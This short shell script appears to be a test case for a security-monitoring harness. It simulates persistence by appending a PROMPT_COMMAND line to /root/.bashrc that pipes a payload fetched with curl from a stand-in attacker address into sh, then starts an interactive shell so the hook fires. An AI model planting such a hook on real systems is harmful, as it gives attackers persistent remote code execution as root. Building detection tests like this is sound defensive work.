#!/bin/sh
. /opt/case/case.sh

printf "PROMPT_COMMAND='(curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1'\n" >>/root/.bashrc
printf 'eval "$PROMPT_COMMAND"\nexit\n' | bash --rcfile /root/.bashrc -i >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
